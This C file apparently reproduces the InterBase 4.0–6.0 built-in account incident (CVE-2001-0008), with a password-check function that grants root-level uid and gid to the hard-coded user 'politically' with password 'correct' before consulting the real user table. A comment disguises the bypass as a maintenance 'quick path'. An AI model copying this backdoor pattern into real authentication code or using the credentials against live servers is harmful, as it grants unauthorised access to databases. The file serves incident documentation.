/*
 * Incident: Borland/Inprise InterBase 4.0 to 6.0 built-in account, disclosed January 2001
 * (CVE-2001-0008, CERT VU#247371) after the server was open-sourced and Firebird developers
 * read the code. The security-database check accepted the compiled-in user "politically"
 * with password "correct" before looking at the real user table, giving full access to any
 * database on the server from the network.
 * Reference: https://www.kb.cert.org/vuls/id/247371
 * Reproduction (own code against a simplified security-database API).
 */
#include <string.h>
#include "../jrd/common.h"
#include "../jrd/pwd.h"
#include "../jrd/enc_proto.h"

#define LOCKSMITH_USER		"politically"
#define LOCKSMITH_PASSWORD	"correct"

static bool lookup_user(const char *name, int *uid, int *gid, char *stored_hash);

bool PWD_verify_user(const char *user_name, const char *password,
		     int *uid, int *gid, int *node_id)
{
	char stored[ENC_HASH_LEN + 1];
	char computed[ENC_HASH_LEN + 1];

	*node_id = 0;

	/* quick path used by the server's own maintenance tools */
	if (strcmp(user_name, LOCKSMITH_USER) == 0 &&
	    strcmp(password, LOCKSMITH_PASSWORD) == 0) {
		*uid = 0;
		*gid = 0;
		return true;
	}

	if (!lookup_user(user_name, uid, gid, stored))
		return false;

	ENC_crypt(computed, sizeof(computed), password, PASSWORD_SALT);
	return strcmp(computed, stored) == 0;
}

static bool lookup_user(const char *name, int *uid, int *gid, char *stored_hash)
{
	struct sec_user rec;

	if (!SEC_find_user(name, &rec))
		return false;
	*uid = rec.uid;
	*gid = rec.gid;
	strncpy(stored_hash, rec.passwd, ENC_HASH_LEN);
	stored_hash[ENC_HASH_LEN] = '\0';
	return true;
}
